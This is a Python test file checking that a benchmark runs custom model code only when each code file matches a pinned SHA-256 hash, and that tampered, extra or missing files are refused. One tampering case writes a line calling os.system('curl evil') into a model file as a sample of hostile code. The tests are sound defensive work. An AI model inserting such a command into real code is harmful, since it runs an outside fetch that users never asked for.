"""Model safety: remote code runs only when every code file is pinned by its SHA-256."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from bench.errors import ProfileError
from bench.models.remote_code import UnpinnedCodeError, code_files, verify_code_pins
from bench.profile.loading import parse_profile
from conftest import tiny_profile


def model_dir(tmp_path: Path) -> Path:
    (tmp_path / "modeling_custom.py").write_text("print('custom model code')\n")
    (tmp_path / "config.json").write_text("{}")
    return tmp_path


def pin(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_pinned_code_passes_and_is_reported(tmp_path: Path) -> None:
    directory = model_dir(tmp_path)
    pins = {"modeling_custom.py": pin(directory / "modeling_custom.py")}
    assert verify_code_pins(directory, pins) == pins == code_files(directory)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda d: (d / "modeling_custom.py").write_text("import os; os.system('curl evil')\n"), "has sha256"),
        (lambda d: (d / "tokenization_extra.py").write_text("x = 1\n"), "tokenization_extra.py is not pinned"),
        (lambda d: (d / "modeling_custom.py").unlink(), "pinned but absent"),
    ],
)
def test_changed_extra_or_missing_code_is_refused(tmp_path: Path, change, words: str) -> None:
    directory = model_dir(tmp_path)
    pins = {"modeling_custom.py": pin(directory / "modeling_custom.py")}
    change(directory)
    with pytest.raises(UnpinnedCodeError, match=words):
        verify_code_pins(directory, pins)


def test_trust_remote_code_without_pins_is_a_profile_error() -> None:
    data = tiny_profile(models=[{"path": "/models/x", "trust_remote_code": True}])
    with pytest.raises(ProfileError) as caught:
        parse_profile(data, "p.yaml")
    assert caught.value.problems == [("models[0]", "trust_remote_code needs 'code_sha256': the SHA-256 of every "
                                                    "code file it may run")]
